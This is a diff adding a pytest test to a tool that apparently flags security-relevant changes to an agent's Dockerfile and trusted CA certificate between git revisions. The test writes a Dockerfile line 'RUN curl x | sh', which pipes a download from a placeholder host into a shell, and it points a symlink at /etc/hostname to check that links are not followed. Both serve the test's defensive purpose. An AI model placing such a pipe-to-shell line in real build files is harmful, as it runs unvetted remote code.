@@ -154,3 +154,38 @@ def test_git_revisions_are_read_and_nothing_of_theirs_is_run(user: User, place: 
     option = user.run("diff", "--", "--output=x", *arguments[1:], **NO_ENGINE)
     assert option.status == 1
     assert not list(place.rglob("ran"))
+
+
+@pytest.mark.skipif(shutil.which("git") is None, reason="no git")
+def test_a_dockerfile_and_a_certificate_beside_the_configuration_are_read(
+    user: User, place: Path
+) -> None:
+    """Their texts are compared wherever each user has the repository."""
+    repository = place / "repository"
+    for each in ("sub", "docker"):
+        (repository / each).mkdir(parents=True)
+    file = repository / "sub/config.toml"
+    built, trusted = repository / "docker/agent.Dockerfile", repository / "sub/ca.pem"
+    file.write_text(
+        '[base]\ndockerfile = "~/team/docker/agent.Dockerfile"\n'
+        f'ca_certificates = ["~/team/sub/ca.pem"]\n{BASE}'
+    )
+    built.write_text("FROM debian\n")
+    trusted.write_text("one")
+    for arguments in (("init", "--quiet"), ("add", "."), ("commit", "--quiet", "--message", "one")):
+        subprocess.run(
+            ["git", "-c", "user.name=a", "-c", "user.email=a@example.com", *arguments],
+            cwd=repository, env={"HOME": str(user.home), "PATH": os.environ["PATH"]}, check=True,
+        )  # fmt: skip
+
+    def told() -> str:
+        return diff(user, place, "HEAD", "--config", str(file)).stdout
+
+    assert told() == "no power changes: the files are the same\n"
+    built.write_text("FROM debian\nRUN curl x | sh\n")
+    trusted.write_text("two")
+    assert "~/team/docker/agent.Dockerfile has another text" in told()
+    assert "trusts another certificate at ~/team/sub/ca.pem" in told()
+    built.unlink()
+    built.symlink_to("/etc/hostname")  # it could lead anywhere
+    assert "another text" not in told()
